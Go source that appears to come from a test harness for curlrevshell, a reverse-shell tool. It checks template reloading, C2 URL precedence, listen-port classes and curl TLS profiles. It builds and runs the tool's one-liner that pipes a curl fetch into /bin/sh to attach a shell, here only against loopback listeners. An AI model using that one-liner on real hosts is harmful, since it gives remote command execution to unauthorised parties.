		r.Count(pfx+"_steps:"+kind, 1)
		r.Count(pfx+"_steps", 1)
		r.Count(pfx+"_state:"+st.kind, 1)
		if (prev == "missing" || prev == "directory") && strings.HasPrefix(st.kind, "valid") {
			r.Count(pfx+"_recreations", 1)
			if linkChange {
				r.Count(pfx+"_recreations_by_symlink", 1)
			}
		}
		if kind == "delete" && wasLink {
			r.Count(pfx+"_links_removed", 1)
		}
		// the request
		var raw, wantURL string
		switch rng.IntN(3) {
		case 0:
			wantURL = fmt.Sprintf("t%d-%d.example:8443", seq, step)
			raw = fmt.Sprintf("GET /c HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", wantURL)
		case 1:
			wantURL = fmt.Sprintf("q%d-%d.example", seq, step)
			raw = fmt.Sprintf("GET /c?c2=%s HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n", wantURL)
		default:
			wantURL = fmt.Sprintf("hd%d-%d.example", seq, step)
			raw = fmt.Sprintf("GET /c HTTP/1.1\r\nHost: other.example\r\nc2: %s\r\nConnection: close\r\n\r\n", wantURL)
		}
		res, conn, err := hk.RoundTrip(addr, "", []byte(raw), hk.Bound)
		if err != nil || res == nil {
			r.Inconclusive(fmt.Sprintf(eng+" %d step %d: request failed: %v", seq, step, err))
			return
		}
		r.Eval(1)
		r.Distinct("tmpl|" + layout + "|" + prev + ">" + kind + ">" + st.kind + "|" + raw[:strings.Index(raw, "\r\n")][:8])
		if linkChange {
			r.Count(pfx+"_symlink_changes_checked", 1)
			r.Count(pfx+"_symlink_changes_checked:"+kind, 1)
		} else if through && kind != "noop" {
			r.Count(pfx+"_edits_below_symlink_checked", 1)
		}
		body := string(res.Body)
		show := body
		if len(show) > 300 {
			show = show[:300] + "…"
		}
		h := map[string]any{"step": step, "op": kind, "file_state": st.kind, "path_is": w.describe(), "status": res.Status, "body": show}
		if len(hist) < 14 {
			hist = append(hist, h)
		}
		sig = append(sig, kind)
		wit := map[string]any{"sequence": seq, "step": step, "layout": layout, "configured_path": w.path, "path_at_startup": startDesc, "path_now": w.describe(), "op": kind, "file_state": st.kind, "file_content": trunc(st.content, 300), "previous_state": prev, "request": raw, "status": res.Status, "body": show, "history_so_far": strings.Join(sig, ",")}
		if cfg != nil {
			wit["program"] = cfg
		}
		if missingAtStart {
			// the template did not exist when the server started
			if st.kind == "missing" && !servedSinceStart {
				r.Count(pfx+"_requests_while_still_missing_since_startup", 1)
			} else if strings.HasPrefix(st.kind, "valid") && !servedSinceStart {
				servedSinceStart = true
				r.Count(pfx+"_created_after_startup_checked", 1)
			}
		}
		pin := ""
		if conn != nil && len(conn.Chain) > 0 {
			pin = hk.Pin(conn.Chain[0])
		}
		switch st.kind {
		case "valid-A", "valid-B", "empty":
			r.Count(pfx+"_valid_checked", 1)
			if res.Status != 200 {
				c.violate(eng, seq, "template-stale", fmt.Sprintf("template file holds a valid template (%s, after %s; %s) but /c answered %d: the response does not reflect the file as of this request", st.kind, kind, w.describe(), res.Status), wit)
				continue
			}
			if st.kind == "empty" {
				if body != "" {
					c.violate(eng, seq, "template-stale", fmt.Sprintf("template file is empty (after %s over %s) but /c served %d bytes", kind, prev, len(body)), wit)
				}
				continue
			}
			var n, u1, u2, u3, id1, id2, id3, fp string
			if m := tmplARe.FindStringSubmatch(body); m != nil && st.kind == "valid-A" {
				n, u1, id1, fp = m[1], m[2], m[3], m[4]
				u2, u3, id2, id3 = u1, u1, id1, id1
			} else if m := tmplBRe.FindStringSubmatch(body); m != nil && st.kind == "valid-B" {
				n, fp, id1, u1, u2, id2, u3, id3 = m[1], m[2], m[3], m[4], m[5], m[6], m[7], m[8]
			} else {
				c.violate(eng, seq, "template-stale", fmt.Sprintf("template file holds %s #%d (after %s over %s; %s) but the body was not rendered from it", st.kind, st.nonce, kind, prev, w.describe()), wit)
				continue
			}
			if n != strconv.Itoa(st.nonce) {
				c.violate(eng, seq, "template-stale", fmt.Sprintf("template file holds %s #%d (after %s over %s; %s) but the body was rendered from #%s", st.kind, st.nonce, kind, prev, w.describe(), n), wit)
				continue
			}
			r.Count(pfx+"_renders_matched", 1)
			if linkChange {
				r.Count(pfx+"_renders_matched_after_symlink_change", 1)
			}
			if u1 != wantURL || u2 != wantURL || u3 != wantURL {
				c.violate(eng, seq, "c2-precedence:template", fmt.Sprintf("template rendered URL %q/%q/%q, expected %q", u1, u2, u3, wantURL), wit)
			}
			if id1 != id2 || id1 != id3 {
				c.violate(eng, seq, "script-two-ids-differ", fmt.Sprintf("one rendering carries IDs %q, %q, %q", id1, id2, id3), wit)
			}
			c.addID(eng, seq, id1, fmt.Sprintf("%s %d step %d", eng, seq, step))
			r.Count("pins_compared", 1)
			if fp != pin {
				c.violate(eng, seq, "script-pin-mismatch", fmt.Sprintf("template rendered fingerprint %q, the key presented in this handshake hashes to %q", fp, pin), wit)
			}
		default: // missing directory unparsable exec-failing
			r.Count(pfx+"_errors_checked", 1)
			r.Count("error_responses_checked", 1)
			if linkChange {
				r.Count(pfx+"_errors_checked_after_symlink_change", 1)
			}
			if res.Status < 400 {
				key := "template-error-with-2xx"
				what := fmt.Sprintf("template file is %s (after %s over %s; %s) but /c answered %d with %d bytes", st.kind, kind, prev, w.describe(), res.Status, len(body))
				if staleRe.MatchString(body) {
					key = "template-stale"
					what += ": an earlier content of the file was served"
				} else if (st.kind == "missing" || st.kind == "directory") && strings.Contains(body, "--pinnedpubkey") {
					key = "template-missing-served-default"
					what += ": the built-in default script was served instead of an error"
				}
				c.violate(eng, seq, key, what, wit)
			}
			if len(body) > 0 {
				c.violate(eng, seq, "template-error-with-body", fmt.Sprintf("template file is %s (after %s over %s); status %d came with a %d-byte body (a partial or stale script)", st.kind, kind, prev, res.Status, len(body)), wit)
			}
		}
	}
	r.Eval(1) // the history as a whole, besides its steps
	r.Distinct("tmpl-history|" + layout + "|" + strings.Join(sig, ","))
	r.Sample(eng+"-history:"+layout, map[string]any{"program": cfg, "sequence": seq, "layout": layout, "configured_path": w.path, "path_at_startup": startDesc, "steps": steps, "first_steps": hist})
}

// templateFloors: the symlink dimension must have been exercised: every layout,
// a link that resolved when the server started, and every kind of change of a
// link followed by a request.
func templateFloors(r *mon.Run) {
	for _, l := range layouts {
		r.Floor("template_layout:"+l, int64(r.N(2, 6)))
	}
	r.Floor("template_stealth_sequences", int64(r.N(4, 12)))
	r.Floor("template_symlink_resolves_at_startup", int64(r.N(6, 9)))
	r.Floor("template_symlink_changes_checked", int64(r.N(60, 600)))
	for _, k := range []string{"relink", "relink-back", "dangle", "relink-dangling", "delete", "rename-in", "swap-dir", "swap-dir-back", "swap-dir-empty", "remove-dir-link"} {
		r.Floor("template_symlink_changes_checked:"+k, int64(r.N(2, 6)))
	}
	r.Floor("template_link_targets_written_in_place", int64(r.N(4, 40)))
	r.Floor("template_edits_below_symlink_checked", int64(r.N(20, 200)))
	r.Floor("template_links_removed", int64(r.N(2, 6)))
	r.Floor("template_recreations_by_symlink", int64(r.N(6, 60)))
	r.Floor("template_renders_matched_after_symlink_change", int64(r.N(24, 300)))
	r.Floor("template_errors_checked_after_symlink_change", int64(r.N(12, 120)))
	r.Floor("template_links_pointed:rename-over", int64(r.N(10, 100)))
	r.Floor("template_links_pointed:remove-create", int64(r.N(10, 100)))
}

package c07

// Listener-port dimension of the precedence engine.
//
// "the TLS server name plus the listen port unless that is 443" speaks about
// the listen PORT being 443, so the listen port is an input of the clause.  An
// OS-chosen port is (almost) never one that merely resembles 443, so listen
// ports are also chosen from classes defined by their decimal relation to
// "443": a port that ends in 443, one that ends in 43 or 3, one that starts
// with 443, one that has 443 in the middle, and the privileged neighbours and
// fragments of 443.  Which port of a class is used is drawn from r.Rng and
// depends on what is free on this host; the ports used are in the evidence.

import (
	"fmt"
	"sort"
	"strings"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// portBase is the first precedence index of the port-class cases.
const portBase = 2000000

type portClass struct {
	name  string
	what  string
	cands func() []int
}

var portClasses = []portClass{
	{"ends443", "decimal port ends in 443 but is not 443 (1443, 8443, 10443 …)", func() []int {
		var l []int
		for p := 1443; p <= 65535; p += 1000 {
			l = append(l, p)
		}
		return l
	}},
	{"ends43or3", "decimal port ends in 43 (not 443) or in 3 (not 43)", func() []int {
		var l []int
		for p := 1024; p <= 65535; p++ {
			if (p%100 == 43 && p%1000 != 443) || (p%10 == 3 && p%100 != 43) {
				l = append(l, p)
			}
		}
		return l
	}},
	{"starts443", "decimal port starts with 443 (4430-4439, 44300-44399)", func() []int {
		var l []int
		for p := 4430; p <= 4439; p++ {
			l = append(l, p)
		}
		for p := 44300; p <= 44399; p++ {
			l = append(l, p)
		}
		return l
	}},
	{"contains443", "443 inside the decimal port, neither at its start nor at its end (14430-14439 … 64430-64439)", func() []int {
		var l []int
		for d := 1; d <= 6; d++ {
			for e := 0; e <= 9; e++ {
				if p := d*10000 + 4430 + e; p <= 65535 {
					l = append(l, p)
				}
			}
		}
		return l
	}},
	{"near443", "privileged neighbours and fragments of 443 (442, 444, 44, 43, 4, 3)", func() []int {
		return []int{442, 444, 44, 43, 4, 3}
	}},
}

// bindClass starts a listener on a port of class ci.  The candidates are
// shuffled by the PRNG stream ("ports", ci*100+li); a port that cannot be bound
// (taken by somebody else, not permitted) is skipped and the next one tried.
// It returns nil and the last error if none of up to 24 candidates could be
// bound.
func bindClass(r *mon.Run, ci, li int, cfg hk.Config) (*lsn, error) {
	pc := portClasses[ci]
	rng := r.Rng("ports", ci*100+li)
	cands := pc.cands()
	rng.Shuffle(len(cands), func(i, j int) { cands[i], cands[j] = cands[j], cands[i] })
	if len(cands) > 24 {
		cands = cands[:24]
	}
	fam, host := "v4", "127.0.0.1"
	if li%2 == 1 {
		fam, host = "v6", "[::1]"
	}
	var last error
	for _, p := range cands {
		want := fmt.Sprint(p)
		l, err := startLsn(pc.name, host+":"+want, cfg)
		if err != nil {
			last = err
			r.Count("port_class_bind_failures:"+pc.name, 1)
			if strings.Contains(err.Error(), "permission denied") {
				break // not a matter of which port
			}
			continue
		}
		if l.port != want {
			l.s.Stop()
			last = fmt.Errorf("asked for port %s, got %s", want, l.port)
			continue
		}
		l.class = pc.name
		r.Count("port_class_listeners:"+pc.name, 1)
		r.Count("port_class_listeners:"+pc.name+":"+fam, 1)
		return l, nil
	}
	return nil, last
}

// portClassCases runs the port-class part of the precedence engine: per class
// nl listeners (alternating 127.0.0.1 and [::1]), per listener m requests, every
// other one with nothing but SNI (the only class of request whose answer
// depends on the listen port), the rest going round all 16 presence classes.
func (c *ctx) portClassCases() {
	r := c.r
	nl, m := r.N(2, 6), r.N(32, 64)
	type job struct {
		l    *lsn
		base int
	}
	var jobs []job
	used := map[string][]string{}
	var notExplored []string
	for ci, pc := range portClasses {
		bound := 0
		var lastErr error
		for li := 0; li < nl; li++ {
			l, err := bindClass(r, ci, li, hk.Config{})
			if l == nil {
				lastErr = err
				r.Count("port_class_listener_not_bound:"+pc.name, 1)
				continue
			}
			defer l.s.Stop()
			bound++
			used[pc.name] = append(used[pc.name], l.s.Addr)
			jobs = append(jobs, job{l, portBase + (ci*10+li)*1000})
		}
		if bound > 0 {
			r.Count("port_classes_explored", 1)
		} else {
			// nothing in this environment may listen on any port of this class:
			// the class is reported as not explored instead of failing the run
			r.Count("port_class_not_explored:"+pc.name, 1)
			notExplored = append(notExplored, pc.name)
			r.Assumptions = append(r.Assumptions, fmt.Sprintf("no port of class %s (%s) could be bound on a loopback address in this environment (%v): listeners of this class were NOT explored in this run", pc.name, pc.what, lastErr))
		}
	}
	r.Extra("listen_addresses_by_port_class", used)
	sort.Strings(notExplored)
	r.Extra("port_classes_not_explored", notExplored)
	mon.Parallel(len(jobs)*m, 6, func(k int) {
		jb, j := jobs[k/m], k%m
		idx := jb.base + j
		if !r.Want("precedence", idx) {
			return
		}
		bits := 1
		if j%2 == 1 {
			bits = (j / 2) % 16
		}
		c.precedenceCase(idx, jb.l, genCase(r.Rng("precedence", idx), idx, jb.l, bits))
	})
}

// portClassFloors: every class that could be bound at all must have been
// exercised, in particular with requests that fall back to SNI.
func portClassFloors(r *mon.Run) {
	for _, pc := range portClasses {
		if r.Counter("port_class_not_explored:"+pc.name) > 0 {
			continue
		}
		r.Floor("port_class_listeners:"+pc.name, 1)
		r.Floor("port_class_requests:"+pc.name, int64(r.N(32, 64)))
		r.Floor("sni_fallbacks:"+pc.name, int64(r.N(12, 24)))
	}
	r.Floor("port_classes_explored", 1)
}

package c07

// The host's curl: a dimension of "piped to /bin/sh on a host with curl".
//
// The statement quantifies over hosts with curl; what such a host's curl can
// or will do is not the harness's curl with its defaults.  Two engines:
//
//	hostcurl   the documented one-liner (curl -sk --pinnedpubkey sha256//PIN
//	           https://ADDR/c | /bin/sh) is run by /bin/sh on "hosts" whose
//	           curl is configured differently through a private .curlrc
//	           (found through HOME or through CURL_HOME): an upper or lower
//	           limit on the TLS version, one elliptic curve, one cipher
//	           suite, a fixed HTTP version, no keep-alive, no proxy.  All
//	           three curl processes of the pipeline (the fetch of /c and the
//	           two callback commands of the script) read that file, as the
//	           three of them would share one TLS library on a real host.
//	           The shell must attach and a command must make the round trip.
//	tlsclient  /c is fetched by Go clients restricted in the same ways
//	           (tls.Config MaxVersion / MinVersion / CurvePreferences /
//	           CipherSuites); the answer must be a script as in the
//	           precedence engine.
//
// What THIS machine's curl (and Go's TLS client) can do at all is found out
// first, against a plain TLS listener of the harness's own (crypto/tls with
// nothing but a certificate, net/http with three trivial handlers shaped like
// /c, /i and /o): a profile whose option is refused by curl, is not seen to be
// in effect on the wire, or with which curl cannot do one of the three
// transfers against that plain listener is counted as NOT EXPLORED and never
// leads to a verdict.

import (
	"bufio"
	"crypto/ecdsa"
	"crypto/elliptic"
	crand "crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// ---- what the plain listener saw ---------------------------------------------------

// probeObs is one request as the harness's plain listener saw it.
type probeObs struct {
	Version       uint16   `json:"tls_version"`
	Cipher        uint16   `json:"cipher_suite"`
	HelloVersions []uint16 `json:"hello_versions"`
	HelloCurves   []uint16 `json:"hello_curves"`
	HelloALPN     []string `json:"hello_alpn,omitempty"`
	Proto         string   `json:"http_proto"`
	Body          string   `json:"body,omitempty"`
}

type effect struct {
	what string
	ok   func(o *probeObs) bool
}

func effMaxVersion(v uint16) effect {
	return effect{fmt.Sprintf("negotiated TLS version and highest offered version are %#04x", v), func(o *probeObs) bool {
		if o.Version != v || len(o.HelloVersions) == 0 {
			return false
		}
		for _, x := range o.HelloVersions {
			if x > v {
				return false
			}
		}
		return true
	}}
}

func effMinVersion(v uint16) effect {
	return effect{fmt.Sprintf("no TLS version below %#04x is offered", v), func(o *probeObs) bool {
		if o.Version < v || len(o.HelloVersions) == 0 {
			return false
		}
		for _, x := range o.HelloVersions {
			if x < v {
				return false
			}
		}
		return true
	}}
}

func effCurve(id tls.CurveID) effect {
	return effect{fmt.Sprintf("the only group offered is %v", id), func(o *probeObs) bool {
		return len(o.HelloCurves) == 1 && o.HelloCurves[0] == uint16(id)
	}}
}

func effCipher(id uint16) effect {
	return effect{"the negotiated cipher suite is " + tls.CipherSuiteName(id), func(o *probeObs) bool { return o.Cipher == id }}
}

func effProto(p string) effect {
	return effect{"the request is " + p, func(o *probeObs) bool { return o.Proto == p }}
}

// ---- curl profiles -----------------------------------------------------------------

// curlProfile is one configuration of the host's curl.
type curlProfile struct {
	Name  string   `json:"name"`
	Dims  []string `json:"dimensions"` // control tls-version tls-curve tls-cipher http conn
	Lines []string `json:"curlrc"`
	ecdsa bool     // only meaningful if the served key is an ECDSA key
	effs  []effect

	// filled in by the probe against the plain listener
	Level int    `json:"level"` // 0 not usable on this machine, 1 the fetch works, 2 all three transfers work
	Why   string `json:"why,omitempty"`
}

func baseProfiles() []*curlProfile {
	p := func(name, dim string, ecdsa bool, effs []effect, lines ...string) *curlProfile {
		return &curlProfile{Name: name, Dims: []string{dim}, Lines: lines, ecdsa: ecdsa, effs: effs}
	}
	e := func(x ...effect) []effect { return x }
	return []*curlProfile{
		p("plain", "control", false, nil),
		p("tls-max-1.2", "tls-version", false, e(effMaxVersion(tls.VersionTLS12)), "tls-max = 1.2"),
		p("tlsv1.2+tls-max-1.2", "tls-version", false, e(effMaxVersion(tls.VersionTLS12)), "tlsv1.2", "tls-max = 1.2"),
		p("tlsv1.3", "tls-version", false, e(effMinVersion(tls.VersionTLS13)), "tlsv1.3"),
		p("curve-prime256v1", "tls-curve", false, e(effCurve(tls.CurveP256)), "curves = prime256v1"),
		p("curve-secp384r1", "tls-curve", false, e(effCurve(tls.CurveP384)), "curves = secp384r1"),
		p("curve-secp521r1", "tls-curve", false, e(effCurve(tls.CurveP521)), "curves = secp521r1"),
		p("curve-x25519", "tls-curve", false, e(effCurve(tls.X25519)), "curves = X25519"),
		p("tls12-ECDHE-ECDSA-AES128-GCM-SHA256", "tls-cipher", true, e(effMaxVersion(tls.VersionTLS12), effCipher(tls.TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256)), "tls-max = 1.2", "ciphers = ECDHE-ECDSA-AES128-GCM-SHA256"),
		p("tls12-ECDHE-ECDSA-AES256-GCM-SHA384", "tls-cipher", true, e(effMaxVersion(tls.VersionTLS12), effCipher(tls.TLS_ECDHE_ECDSA_WITH_AES_256_GCM_SHA384)), "tls-max = 1.2", "ciphers = ECDHE-ECDSA-AES256-GCM-SHA384"),
		p("tls12-ECDHE-ECDSA-CHACHA20-POLY1305", "tls-cipher", true, e(effMaxVersion(tls.VersionTLS12), effCipher(tls.TLS_ECDHE_ECDSA_WITH_CHACHA20_POLY1305_SHA256)), "tls-max = 1.2", "ciphers = ECDHE-ECDSA-CHACHA20-POLY1305"),
		p("tls13-TLS_AES_256_GCM_SHA384", "tls-cipher", false, e(effMinVersion(tls.VersionTLS13), effCipher(tls.TLS_AES_256_GCM_SHA384)), "tlsv1.3", "tls13-ciphers = TLS_AES_256_GCM_SHA384"),
		p("tls13-TLS_CHACHA20_POLY1305_SHA256", "tls-cipher", false, e(effMinVersion(tls.VersionTLS13), effCipher(tls.TLS_CHACHA20_POLY1305_SHA256)), "tlsv1.3", "tls13-ciphers = TLS_CHACHA20_POLY1305_SHA256"),
		p("http1.1", "http", false, e(effProto("HTTP/1.1")), "http1.1"),
		p("http1.0", "http", false, e(effProto("HTTP/1.0")), "http1.0"),
		p("no-keepalive", "conn", false, nil, "no-keepalive"),
		p("noproxy-all", "conn", false, nil, `noproxy = "*"`),
	}
}

func isTLSDim(d string) bool { return strings.HasPrefix(d, "tls-") }

// combine: a TLS restriction together with an HTTP/connection option.
func combine(a, b *curlProfile) *curlProfile {
	return &curlProfile{
		Name:  a.Name + "+" + b.Name,
		Dims:  append(append([]string{}, a.Dims...), b.Dims...),
		Lines: append(append([]string{}, a.Lines...), b.Lines...),
		ecdsa: a.ecdsa || b.ecdsa,
		effs:  append(append([]effect{}, a.effs...), b.effs...),
	}
}

// hostProfiles: the base profiles plus n combinations drawn from the PRNG
// stream ("hostcurl-combos", k); a combination that came up before is replaced
// by the next one in a fixed order.
func hostProfiles(r *mon.Run, n int) []*curlProfile {
	base := baseProfiles()
	var tlsP, otherP []*curlProfile
	for _, p := range base {
		switch {
		case isTLSDim(p.Dims[0]):
			tlsP = append(tlsP, p)
		case p.Dims[0] != "control":
			otherP = append(otherP, p)
		}
	}
	out := base
	seen := map[string]bool{}
	for k := 0; k < n && len(seen) < len(tlsP)*len(otherP); k++ {
		rng := r.Rng("hostcurl-combos", k)
		i, j := rng.IntN(len(tlsP)), rng.IntN(len(otherP))
		for seen[tlsP[i].Name+"+"+otherP[j].Name] {
			if j++; j == len(otherP) {
				j = 0
				i = (i + 1) % len(tlsP)
			}
		}
		cp := combine(tlsP[i], otherP[j])
		seen[cp.Name] = true
		out = append(out, cp)
	}
	return out
}

// ---- the harness's plain listener --------------------------------------------------

type plainSrv struct {
	addr string
	pin  string
	ln   net.Listener
	srv  *http.Server

	mu    sync.Mutex
	hello map[string]*probeObs // by remote address: what the ClientHello offered
	obs   map[string]*probeObs // by request path
}

// startPlain starts a TLS listener with nothing configured but a freshly made
// self-signed ECDSA P-256 certificate (made by the harness, not by the library
// under test) and an HTTP server with handlers shaped like /c, /i and /o.
func startPlain() (*plainSrv, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), crand.Reader)
	if err != nil {
		return nil, err
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()),
		Subject:      pkix.Name{CommonName: "verifharness plain listener"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(24 * time.Hour),
		KeyUsage:     x509.KeyUsageDigitalSignature,
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(crand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return nil, err
	}
	leaf, err := x509.ParseCertificate(der)
	if err != nil {
		return nil, err
	}
	ps := &plainSrv{pin: hk.Pin(leaf), hello: map[string]*probeObs{}, obs: map[string]*probeObs{}}
	cfg := &tls.Config{
		Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key, Leaf: leaf}},
		GetConfigForClient: func(h *tls.ClientHelloInfo) (*tls.Config, error) {
			o := &probeObs{HelloVersions: append([]uint16{}, h.SupportedVersions...), HelloALPN: append([]string{}, h.SupportedProtos...)}
			for _, c := range h.SupportedCurves {
				o.HelloCurves = append(o.HelloCurves, uint16(c))
			}
			ps.mu.Lock()
			ps.hello[h.Conn.RemoteAddr().String()] = o
			ps.mu.Unlock()
			return nil, nil
		},
	}
	tl, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	ps.ln = tls.NewListener(tl, cfg)
	ps.addr = tl.Addr().String()
	ps.srv = &http.Server{
		ErrorLog: log.New(io.Discard, "", 0),
		Handler: http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
			o := &probeObs{Proto: q.Proto}
			if q.TLS != nil {
				o.Version, o.Cipher = q.TLS.Version, q.TLS.CipherSuite
			}
			ps.mu.Lock()
			if h := ps.hello[q.RemoteAddr]; h != nil {
				o.HelloVersions, o.HelloCurves, o.HelloALPN = h.HelloVersions, h.HelloCurves, h.HelloALPN
			}
			ps.mu.Unlock()
			b, _ := io.ReadAll(io.LimitReader(q.Body, 1<<16))
			o.Body = string(b)
			ps.mu.Lock()
			ps.obs[q.URL.Path] = o
			ps.mu.Unlock()
			fmt.Fprintf(w, "PLAIN %s\n", q.URL.Path)
			if f, ok := w.(http.Flusher); ok {
				f.Flush()
			}
		}),
	}
	go ps.srv.Serve(ps.ln)
	return ps, nil
}

func (ps *plainSrv) stop() { ps.srv.Close() }

func (ps *plainSrv) seen(path string) *probeObs {
	ps.mu.Lock()
	defer ps.mu.Unlock()
	return ps.obs[path]
}

// ---- a host: HOME, .curlrc, environment --------------------------------------------

var placements = []string{"HOME", "CURL_HOME"}

// makeHost creates the host's directories under base and returns its
// environment.  Placement HOME: $HOME/.curlrc, CURL_HOME unset.  Placement
// CURL_HOME: $CURL_HOME/.curlrc, HOME an empty directory.
func makeHost(base string, p *curlProfile, place int) ([]string, error) {
	home := filepath.Join(base, "home")
	if err := os.MkdirAll(home, 0o700); err != nil {
		return nil, err
	}
	env := []string{"PATH=/usr/bin:/bin", "HOME=" + home, "LC_ALL=C"}
	cfgDir := home
	if place == 1 {
		cfgDir = filepath.Join(base, "curlhome")
		if err := os.MkdirAll(cfgDir, 0o700); err != nil {
			return nil, err
		}
		env = append(env, "CURL_HOME="+cfgDir)
	}
	rc := strings.Join(p.Lines, "\n")
	if rc != "" {
		rc += "\n"
	}
	return env, os.WriteFile(filepath.Join(cfgDir, ".curlrc"), []byte(rc), 0o600)
}

// probeProfile finds out what this machine's curl does with the profile
// against the plain listener.
func probeProfile(r *mon.Run, ps *plainSrv, k int, p *curlProfile) {
	base := filepath.Join(r.Work, fmt.Sprintf("hostcurl-probe-%d", k))
	env, err := makeHost(base, p, k%2)
	if err != nil {
		p.Why = "cannot make the host directory: " + err.Error()
		return
	}
	defer os.RemoveAll(base)
	url := func(e string) (string, string) {
		path := fmt.Sprintf("/p/%d/%s", k, e)
		return path, "https://" + ps.addr + path
	}
	try := func(e string, stdin []byte, args ...string) (string, *probeObs) {
		path, u := url(e)
		res := mon.Proc{Path: "/usr/bin/curl", Args: append(args, u), Env: env, Dir: base, Stdin: stdin, Timeout: 30 * time.Second}.Run()
		if res.TimedOut {
			return "curl did not finish within 30 s", nil
		}
		if res.Status != 0 {
			return fmt.Sprintf("curl exit status %d %s", res.Status, trunc(string(res.Stderr), 200)), nil
		}
		o := ps.seen(path)
		if o == nil {
			return "curl exit status 0 but the plain listener saw no request", nil
		}
		if stdin == nil && string(res.Stdout) != "PLAIN "+path+"\n" {
			return fmt.Sprintf("curl printed %q", trunc(string(res.Stdout), 100)), nil
		}
		if stdin != nil && o.Body != string(stdin) {
			return fmt.Sprintf("the plain listener received body %q, sent %q", trunc(o.Body, 100), stdin), nil
		}
		for _, ef := range p.effs {
			if !ef.ok(o) {
				return fmt.Sprintf("option not seen in effect (%s): %+v", ef.what, *o), nil
			}
		}
		return "", o
	}
	pin := "sha256//" + ps.pin
	// like the one-liner's fetch
	if why, _ := try("c", nil, "-sk", "--pinnedpubkey", pin); why != "" {
		p.Why = "fetch: " + why
		return
	}
	p.Level = 1
	// like the script's two commands (the real one has stdin on /dev/null too)
	if why, _ := try("i", nil, "-Nsk", "--pinnedpubkey", pin); why != "" {
		p.Why = "download with -N: " + why
		return
	}
	if why, _ := try("o", []byte(fmt.Sprintf("UP-%d\n", k)), "-Nsk", "--pinnedpubkey", pin, "-T-"); why != "" {
		p.Why = "upload with -T-: " + why
		return
	}
	p.Level = 2
}

// ---- one host run ------------------------------------------------------------------

type hostCase struct {
	prof  *curlProfile
	fam   string // v4 v6
	place int
}

var sentRe = regexp.MustCompile(`Sent script: ID:(\S*) URL:(\S*)`)

func (c *ctx) hostRun(idx int, hc hostCase, bound time.Duration) execResult {
	r := c.r
	p := hc.prof
	addr := "127.0.0.1:0"
	if hc.fam == "v6" {
		addr = "[::1]:0"
	}
	l, err := startLsn(hc.fam, addr, hk.Config{})
	if err != nil {
		r.Inconclusive(fmt.Sprintf("hostcurl %d: server did not start: %v", idx, err))
		return execResult{}
	}
	defer l.s.Stop()
	// the key the server presents, as an unrestricted client of the harness sees it
	conn, err := hk.Dial(l.s.Addr, "")
	if err != nil || len(conn.Chain) == 0 {
		r.Inconclusive(fmt.Sprintf("hostcurl %d: cannot see the server's certificate: %v", idx, err))
		return execResult{}
	}
	leaf := conn.Chain[0]
	conn.Close()
	if p.ecdsa && leaf.PublicKeyAlgorithm != x509.ECDSA {
		r.Count("hostcurl_skipped_key_is_not_ecdsa:"+p.Name, 1)
		return execResult{}
	}
	pin := hk.Pin(leaf)
	oneLiner := fmt.Sprintf("curl -sk --pinnedpubkey sha256//%s https://%s/c | /bin/sh", pin, l.s.Addr)
	for _, e := range l.s.OpLines(0, -1) {
		if strings.Contains(e.S, oneLiner) {
			r.Count("hostcurl_oneliner_is_the_printed_one", 1)
			break
		}
	}
	base := filepath.Join(r.Work, fmt.Sprintf("hostcurl-%d-%d", idx, time.Now().UnixNano()))
	env, err := makeHost(base, p, hc.place)
	if err != nil {
		r.Inconclusive("hostcurl: " + err.Error())
		return execResult{}
	}
	wit := map[string]any{"profile": p.Name, "curlrc": p.Lines, "curlrc_found_through": placements[hc.place], "command": oneLiner, "listener": l.s.Addr,
		"same_curlrc_against_plain_listener": "fetch, -N download and -T- upload all fine"}
	outPath := filepath.Join(base, "out")
	outf, err := os.Create(outPath)
	if err != nil {
		r.Inconclusive("hostcurl: " + err.Error())
		return execResult{}
	}
	defer outf.Close()
	from := l.s.Log.Len()
	cmd := exec.Command("/bin/sh", "-c", oneLiner)
	cmd.Env, cmd.Dir = env, base
	cmd.Stdout, cmd.Stderr = outf, outf
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		r.Inconclusive("hostcurl: cannot start /bin/sh: " + err.Error())
		return execResult{}
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	finished := false
	defer func() {
		if !finished {
			killGroup(cmd, done, 0)
		}
	}()
	waitLog := func(pred func(bk.Event) bool) (ok, childGone bool) {
		deadline := time.Now().Add(bound)
		var goneAt time.Time
		for {
			if _, ok := l.s.Log.Wait(from, 200*time.Millisecond, pred); ok {
				return true, false
			}
			select {
			case <-done:
				if goneAt.IsZero() {
					goneAt = time.Now()
				} else if time.Since(goneAt) > 2*time.Second {
					return false, true
				}
			default:
			}
			if time.Now().After(deadline) {
				return false, false
			}
		}
	}
	opTail := func() []string {
		var out []string
		for _, e := range l.s.OpLines(from, -1) {
			out = append(out, e.S)
		}
		if len(out) > 30 {
			out = out[len(out)-30:]
		}
		return out
	}
	// diagnose: what the same curl says, verbosely, about the same URL (witness only)
	diagnose := func() {
		b, _ := os.ReadFile(outPath)
		wit["child_output"] = string(b)
		wit["operator_lines"] = opTail()
